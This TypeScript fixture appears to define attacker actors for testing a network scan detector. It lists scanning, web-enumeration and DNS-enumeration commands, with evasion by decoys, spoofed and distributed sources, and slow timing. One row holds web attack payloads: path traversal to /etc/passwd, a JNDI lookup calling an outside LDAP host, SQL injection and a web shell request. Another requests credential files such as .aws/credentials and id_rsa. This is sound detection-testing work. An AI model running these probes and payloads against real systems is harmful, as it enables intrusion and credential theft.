// The scans of the lab: real tools from Debian, each from an address of its own.
import type { Kind } from '../src/model/finding.ts';
import type { Actor } from './actor.ts';
import { APP, DB, DNS, LEGACY, MAIL, SITE, SITE6, SSH, WWW } from './actor.ts';

const BROWSER = 'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0';
const TOP20 = '21,22,23,25,53,80,110,111,135,139,143,443,445,993,995,1723,3306,3389,5900,8080';

type Row = [id: string, kinds: Kind[], targets: string[], command: string, more?: Partial<Actor>];

const rows: Row[] = [
  // ---- many ports of one host, TCP
  ['syn-fast', ['vertical'], [LEGACY], `nmap -n -Pn -sS -F ${LEGACY}`],
  ['syn-1000-filtered', ['vertical'], [WWW], `nmap -n -Pn -sS -T4 --max-retries 0 --top-ports 1000 ${WWW}`],
  ['connect', ['vertical'], [LEGACY], `nmap -n -Pn -sT -F ${LEGACY}`],
  ['connect-filtered', ['vertical'], [MAIL], `nmap -n -Pn -sT -T4 --max-retries 1 -p 1-120 ${MAIL}`],
  ['masscan-ports', ['vertical'], [LEGACY], `masscan ${LEGACY} -p 1-300 --rate 150 --wait 2 -e eth0`],
  ['masscan-ports-filtered', ['vertical'], [DB], `masscan ${DB} -p 1-300 --rate 100 --wait 2 -e eth0`],
  ['hping3-scan', ['vertical'], [LEGACY], `hping3 --scan 1-200 -S ${LEGACY}`],
  ['hping3-increment', ['vertical'], [DB], `hping3 -S -p ++1 -i u20000 -c 150 ${DB}`],
  ['nc-ports', ['vertical'], [LEGACY], `nc -n -z -v -w 1 ${LEGACY} 20-90`],
  ['syn-fragments', ['vertical'], [LEGACY], `nmap -n -Pn -sS -f -F ${LEGACY}`],
  ['syn-source-port-53', ['vertical'], [DB], `nmap -n -Pn -sS -g 53 --max-retries 1 -F ${DB}`],
  [
    'syn-ipv6',
    ['vertical'],
    ['2001:db8:51::10'],
    'nmap -6 -n -Pn -sS -F 2001:db8:51::10',
    { sources: ['2001:db8:a:1::66'] },
  ],
  [
    'syn-ipv6-filtered',
    ['vertical'],
    ['2001:db8:51::3'],
    'nmap -6 -n -Pn -sS --max-retries 1 -F 2001:db8:51::3',
    { sources: ['2001:db8:a:2::66'] },
  ],
  ['sctp-init', ['vertical'], [LEGACY], `nmap -n -Pn -sY -F ${LEGACY}`],
  [
    'syn-decoys',
    ['vertical'],
    [LEGACY],
    `nmap -n -Pn -sS -F -D 203.0.113.241,203.0.113.242,ME,203.0.113.243,203.0.113.244 ${LEGACY}`,
    {
      decoys: ['203.0.113.241', '203.0.113.242', '203.0.113.243', '203.0.113.244'],
      note: 'the decoys are nobody: accusing them is a false alarm',
    },
  ],
  [
    'ten-ports-filtered',
    ['vertical'],
    [DB],
    `nmap -n -Pn -sS --max-retries 0 -p 23,135,445,1433,3306,3389,5432,5900,6379,27017 ${DB}`,
    { note: 'ten ports, just enough' },
  ],
  [
    'six-ports',
    ['vertical'],
    [DB],
    `nmap -n -Pn -sS --max-retries 0 -p 22,445,3306,3389,5432,8080 ${DB}`,
    { note: 'six ports: below every threshold of fan-out' },
  ],
  // ---- stealth
  ['fin', ['stealth', 'vertical'], [LEGACY], `nmap -n -Pn -sF -p 1-60 ${LEGACY}`],
  ['null', ['stealth', 'vertical'], [LEGACY], `nmap -n -Pn -sN -p 1-60 ${LEGACY}`],
  ['xmas', ['stealth', 'vertical'], [LEGACY], `nmap -n -Pn -sX -p 1-60 ${LEGACY}`],
  ['maimon', ['stealth', 'vertical'], [LEGACY], `nmap -n -Pn -sM -p 1-60 ${LEGACY}`],
  ['ack', ['stealth', 'vertical'], [WWW], `nmap -n -Pn -sA --max-retries 1 -p 1-60 ${WWW}`],
  ['window', ['stealth', 'vertical'], [LEGACY], `nmap -n -Pn -sW -p 1-60 ${LEGACY}`],
  ['fin-filtered', ['stealth', 'vertical'], [DB], `nmap -n -Pn -sF --max-retries 0 -p 20-49 ${DB}`],
  // ---- UDP, IP protocols
  ['udp', ['vertical'], [LEGACY], `nmap -n -Pn -sU --top-ports 60 ${LEGACY}`],
  ['udp-filtered', ['vertical'], [DB], `nmap -n -Pn -sU --max-retries 0 -T4 --top-ports 80 ${DB}`],
  ['ip-protocol', ['ip-protocol'], [LEGACY], `nmap -n -Pn -sO -T4 --max-retries 1 -p 0-60 ${LEGACY}`],
  // ---- what runs there
  [
    'aggressive',
    ['vertical', 'os-fingerprint', 'service-fingerprint'],
    [WWW],
    `nmap -n -Pn -A -T4 --max-retries 1 -F ${WWW}`,
    { limit: 150 },
  ],
  [
    'version',
    ['vertical', 'service-fingerprint'],
    [LEGACY],
    `nmap -n -Pn -sV --version-light -F ${LEGACY}`,
    { limit: 150 },
  ],
  ['os', ['vertical', 'os-fingerprint'], [LEGACY], `nmap -n -Pn -O -F ${LEGACY}`],
  ['banner-script', ['horizontal'], [SITE], `nmap -n -Pn -sT -p 22 --script banner ${SITE}`],
  [
    'nc-banners',
    ['banner-grab', 'vertical'],
    [LEGACY],
    `for port in 21 22 23 25 79 110 111 119 139 143 389 445 512 513 514 548 587 631 873 993 995 1433 1521 2049 2121 3000 3306 3389 5000 5432 5900 6000 6379 6667 8000 8080 8443 8888 9200 11211; do
  nc -n -w 1 ${LEGACY} $port < /dev/null; sleep 0.3
done`,
    { note: 'forty services, the greeting read, nothing asked' },
  ],
  // ---- one port over many hosts
  ['masscan-445', ['horizontal'], [SITE], `masscan ${SITE} -p 445 --rate 20 --wait 2 -e eth0`],
  [
    'zmap-23',
    ['horizontal'],
    [SITE],
    `zmap -p 23 -r 20 -c 2 -i eth0 -G "$(gateway_mac)" -b /dev/null -o /dev/null ${SITE}`,
  ],
  ['nmap-ssh', ['horizontal'], [SITE], `nmap -n -Pn -sS --max-retries 1 -p 22 ${SITE}`],
  [
    'hping3-3389',
    ['horizontal'],
    [SITE],
    `for last in $(shuf -i 1-30 --random-source=/etc/services); do hping3 -q -S -p 3389 -c 1 198.51.100.$last; done`,
  ],
  ['connect-80', ['horizontal'], [SITE], `nmap -n -Pn -sT --max-retries 1 -p 80 ${SITE}`],
  ['udp-161', ['horizontal'], [SITE], `nmap -n -Pn -sU --max-retries 1 -p 161 ${SITE}`],
  [
    'zmap-udp-5060',
    ['horizontal'],
    [SITE],
    `zmap -M udp -p 5060 --probe-args=text:OPTIONS -r 20 -c 2 -i eth0 -G "$(gateway_mac)" -b /dev/null -o /dev/null ${SITE}`,
  ],
  [
    'ipv6-ssh',
    ['horizontal'],
    [SITE6],
    'nmap -6 -n -Pn -sS --max-retries 1 -p 22 2001:db8:51::{1..30}',
    { sources: ['2001:db8:a:3::66'] },
  ],
  // ---- many of both
  [
    'block',
    ['block'],
    ['198.51.100.0/28'],
    `nmap -n -Pn -sS -T4 --max-retries 1 -p ${TOP20} 198.51.100.0/28`,
  ],
  ['masscan-block', ['block'], [SITE], `masscan ${SITE} -p ${TOP20} --rate 100 --wait 2 -e eth0`],
  // ---- who is alive
  [
    'ping-sweep',
    ['sweep'],
    [SITE],
    `nmap -n -sn ${SITE}`,
    { note: 'echo, SYN to 443, ACK to 80, timestamp' },
  ],
  ['icmp-nmap', ['icmp-sweep'], [SITE], `nmap -n -sn -PE ${SITE}`],
  ['icmp-fping', ['icmp-sweep'], [SITE], `fping -q -r 1 -g ${SITE}`],
  ['icmp-timestamp', ['icmp-sweep'], [SITE], `nmap -n -sn -PP ${SITE}`],
  ['icmp-masscan', ['icmp-sweep'], [SITE], `masscan ${SITE} --ping --rate 20 --wait 2 -e eth0`],
  ['tcp-ping', ['sweep'], [SITE], `nmap -n -sn -PS22,80,443,3389 -PA80,8080 ${SITE}`],
  // ---- slow, beside everything else
  [
    'slow-5s',
    ['vertical'],
    [DB],
    `nmap -n -Pn -sS --max-retries 0 --scan-delay 5s -p ${TOP20},8443,8888,9200,6379,27017,5432,1433,1521,2049,2121 ${DB}`,
    { whole: true, note: 'a probe every 5 s' },
  ],
  [
    'slow-12s',
    ['vertical'],
    [MAIL],
    `nmap -n -Pn -sS --max-retries 0 --scan-delay 12s -p ${TOP20},8443,8888,9200,6379,27017,5432 ${MAIL}`,
    { whole: true, note: 'a probe every 12 s' },
  ],
  [
    'slow-horizontal',
    ['horizontal'],
    [SITE],
    `for last in $(shuf -i 1-30 --random-source=/etc/services); do hping3 -q -S -p 5900 -c 1 198.51.100.$last; sleep 8; done`,
    { whole: true, note: 'a host every 9 s' },
  ],
  [
    'slow-web',
    ['wordlist'],
    [WWW],
    `gobuster dir -q -t 1 --delay 4s -a '${BROWSER}' -u http://${WWW} -w $WORDS/web-100.txt`,
    { whole: true, note: 'a path every 4 s, as a browser' },
  ],
  // ---- many sources, little each
  [
    'distributed-ports',
    ['campaign'],
    [LEGACY],
    `n=1; for last in $(seq 128 147); do
  nmap -n -Pn -sS --max-retries 0 -S 203.0.113.$last -e eth0 -p $n-$((n + 4)) ${LEGACY} & sleep 0.5; n=$((n + 5))
done; wait`,
    {
      sources: Array.from({ length: 20 }, (_, i) => `203.0.113.${128 + i}`),
      note: 'twenty sources, five ports each, one hundred ports together',
    },
  ],
  [
    'distributed-web',
    ['campaign'],
    [WWW],
    `split -n l/20 -d $WORDS/web-300.txt $TMP/part.; n=160; for part in $TMP/part.*; do
  while read -r path; do curl -s -o /dev/null --interface 203.0.113.$n -A '${BROWSER}' "http://${WWW}/$path"; sleep 1; done < $part &
  n=$((n + 1))
done; wait`,
    {
      sources: Array.from({ length: 20 }, (_, i) => `203.0.113.${160 + i}`),
      note: 'twenty sources, fifteen paths each',
    },
  ],
  [
    'distributed-64',
    ['campaign'],
    [SITE],
    // Every pair of 32 addresses and 6 ports once, in random order, three for each source.
    `for port in 2375 5601 6379 9200 11211 27017; do for last in $(seq 0 31); do echo $port 198.51.100.$last; done; done | shuf | awk '{n = int((NR - 1) / 3); print "198.18." 64 + n "." 9 + n * 3, $0}' |
  xargs -P 6 -L 1 bash -c 'nmap -n -Pn -sS --max-retries 0 -e eth0 -S $0 -p $1 $2 > /dev/null'`,
    {
      sources: Array.from({ length: 64 }, (_, i) => `198.18.${64 + i}.${9 + i * 3}`),
      limit: 120,
      note: 'sixty-four sources in as many /24s, three probes each, no pair probed twice',
    },
  ],
  [
    'ipv6-rotation',
    ['vertical'],
    ['2001:db8:51::11'],
    `for n in $(seq 1 40); do echo 2001:db8:a:7::$n $((n * 3 + 18)); done |
  xargs -P 4 -L 1 bash -c 'nmap -6 -n -Pn -sS --max-retries 0 -e eth0 -S $0 -p $1-$(($1 + 2)) 2001:db8:51::11 > /dev/null'`,
    {
      sources: Array.from({ length: 40 }, (_, i) => `2001:db8:a:7::${i + 1}`),
      limit: 90,
      note: 'a new address of one /64 for every three ports',
    },
  ],
  [
    'infected-camera',
    ['horizontal'],
    ['198.18.200.0/26'],
    'masscan 198.18.200.0/26 -p 23,2323 --rate 10 --wait 2 -e eth0',
    { sources: ['198.51.100.12'], inside: 'cam', note: 'a host of the site that scans outwards' },
  ],
  [
    'probe-then-exploit',
    ['vertical', 'vulnerability'],
    [APP],
    `nmap -n -Pn -sS --max-retries 0 -p ${TOP20} ${APP}; sleep 5
for path in '/cgi-bin/.%2e/.%2e/.%2e/etc/passwd' '/index.php?page=../../../../etc/passwd' '/?x=\${jndi:ldap://203.0.113.9/a}' '/search?q=1%27%20UNION%20SELECT%20password%20FROM%20users--' '/shell.php?cmd=id' '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php'; do
  curl -s --path-as-is -g -o /dev/null -A '${BROWSER}' -H 'Host: app.example.com' "http://${APP}$path"; sleep 1
done`,
    { note: 'ports first, then requests that a site which answers 200 to everything answers with 200' },
  ],
  // ---- web
  ['ffuf', ['wordlist'], [WWW], `ffuf -s -t 5 -p 0.1 -u http://www.example.com/FUZZ -w $WORDS/web-500.txt`],
  ['gobuster', ['wordlist'], [WWW], `gobuster dir -q -t 5 -u http://www.example.com -w $WORDS/web-300.txt`],
  [
    'gobuster-browser-agent',
    ['wordlist'],
    [WWW],
    `gobuster dir -q -t 2 -a '${BROWSER}' -x php,bak -u http://www.example.com -w $WORDS/web-100.txt`,
  ],
  ['dirb', ['wordlist'], [WWW], `dirb http://www.example.com/ $WORDS/web-300.txt -S -r -w`],
  [
    'dirsearch',
    ['wordlist'],
    [WWW],
    `dirsearch -q -u http://www.example.com/ -w $WORDS/web-300.txt -t 5 -o $TMP/report.txt`,
  ],
  ['wfuzz', ['wordlist'], [WWW], `wfuzz --hc 404 -t 5 -w $WORDS/web-300.txt http://www.example.com/FUZZ`],
  [
    'ffuf-soft-404',
    ['wordlist'],
    [APP],
    `ffuf -s -t 5 -u http://app.example.com/FUZZ -w $WORDS/web-300.txt -fs 1`,
    { note: 'the site answers 200 to everything' },
  ],
  [
    'ffuf-api',
    ['wordlist'],
    [APP],
    `ffuf -s -t 5 -H 'Host: api.example.com' -u http://${APP}/v1/FUZZ -w $WORDS/web-300.txt`,
  ],
  [
    'gobuster-vhost',
    ['wordlist'],
    [APP],
    `gobuster vhost -q -t 5 -u http://${APP} --domain example.com --append-domain -w $WORDS/names-200.txt`,
    { note: 'one path, many host names: visible only where the host is logged' },
  ],
  [
    'twenty-five-paths',
    ['wordlist', 'vulnerability'],
    [WWW],
    `for path in .env .git/config .git/HEAD wp-login.php wp-admin/ phpinfo.php config.php.bak backup.sql dump.sql .aws/credentials .htpasswd server-status phpmyadmin/ actuator/env .svn/entries .DS_Store id_rsa web.config database.yml composer.json old.zip site.tar.gz cgi-bin/test.cgi api/.env admin.php; do
  curl -4 -s -o /dev/null -A '${BROWSER}' http://www.example.com/$path; pause 1 3
done`,
    { note: 'twenty-five paths, by hand, as a browser' },
  ],
  [
    'nmap-http-enum',
    ['wordlist', 'vulnerability'],
    [WWW],
    `nmap -n -Pn -sT -p 80 --script http-enum ${WWW}`,
    { limit: 120 },
  ],
  [
    'wapiti',
    ['vulnerability'],
    [WWW],
    `wapiti -u http://www.example.com/search/?q=1 --scope page -m exec,file,backup --flush-session --max-scan-time 45 -v 0 -f txt -o $TMP/report.txt --store-session $TMP`,
    { limit: 90 },
  ],
  [
    'dirb-cgis',
    ['vulnerability', 'wordlist'],
    [WWW],
    `dirb http://www.example.com/ $WORDS/cgis-300.txt -S -r -w`,
    { note: 'names of vulnerable programs' },
  ],
  [
    'sqlmap',
    ['vulnerability'],
    [APP],
    `sqlmap --batch --flush-session --level 2 --output-dir $TMP -u 'http://app.example.com/search?q=1'`,
    { limit: 60 },
  ],
  [
    'whatweb',
    ['web-fingerprint'],
    [WWW],
    'whatweb -q -a 3 http://www.example.com/ http://shop.example.com/ http://www.example.com/login/',
    { limit: 60 },
  ],
  ['wafw00f', ['web-fingerprint'], [WWW], 'wafw00f -a http://www.example.com/', { limit: 60 }],
  // ---- DNS
  [
    'gobuster-dns',
    ['dns-enumeration'],
    [DNS],
    `gobuster dns -q -t 5 -d example.com -r ${DNS}:53 -w $WORDS/names-400.txt`,
  ],
  [
    'dnsrecon-brute',
    ['dns-enumeration'],
    [DNS],
    `dnsrecon -d example.com -n ${DNS} -t brt -D $WORDS/names-200.txt --threads 4`,
    { limit: 90 },
  ],
  [
    'dnsenum',
    ['dns-enumeration', 'zone-transfer'],
    [DNS],
    `cd $TMP && dnsenum --nocolor --noreverse --threads 4 --dnsserver ${DNS} -f $WORDS/names-200.txt example.com`,
    { limit: 90 },
  ],
  [
    'nmap-dns-brute',
    ['dns-enumeration'],
    [DNS],
    `nmap -n -Pn -sn --dns-servers ${DNS} --script dns-brute --script-args dns-brute.domain=example.com,dns-brute.threads=4 ${DNS}`,
    { limit: 90 },
  ],
  [
    'fierce',
    ['dns-enumeration', 'zone-transfer'],
    [DNS],
    `fierce --domain example.com --dns-servers ${DNS} --subdomain-file $WORDS/names-100.txt --traverse 0`,
    { limit: 90 },
  ],
  [
    'axfr',
    ['zone-transfer'],
    [DNS],
    `for zone in example.com 100.51.198.in-addr.arpa; do dig +tries=1 @${DNS} $zone AXFR; done`,
  ],
  [
    'dnsrecon-reverse',
    ['reverse-sweep'],
    [DNS],
    `dnsrecon -t rvl -r ${SITE} -n ${DNS} --threads 2`,
    { limit: 60 },
  ],
  [
    'dig-reverse',
    ['reverse-sweep'],
    [DNS],
    `for last in $(seq 0 31); do dig +tries=1 +short @${DNS} -x 198.51.100.$last; sleep 0.2; done`,
  ],
  [
    'dns-version',
    ['service-fingerprint'],
    [DNS],
    `for name in version.bind hostname.bind id.server version.server authors.bind; do dig +tries=1 @${DNS} $name TXT CH; done`,
  ],
  [
    'ssh-hosts',
    ['horizontal'],
    [SITE],
    `for last in $(seq 1 30); do nc -n -w 1 198.51.100.$last 22 < /dev/null; done`,
    { limit: 60, note: `only ${SSH} lets outsiders in` },
  ],
];

export const attacks: Actor[] = rows.map(([id, kinds, targets, command, more], i) => ({
  id,
  benign: false,
  // A /24 each: neighbours with the same port list would rightly be taken for one actor.
  sources: [`198.19.${10 + i}.${20 + ((i * 37) % 200)}`],
  tool:
    /(nmap|masscan|zmap|hping3|nc|fping|ffuf|gobuster|dirb|dirsearch|wfuzz|wapiti|sqlmap|whatweb|wafw00f|dnsrecon|dnsenum|fierce|dig|curl) /.exec(
      command,
    )?.[1] ?? 'bash',
  kinds,
  targets,
  command,
  ...more,
}));
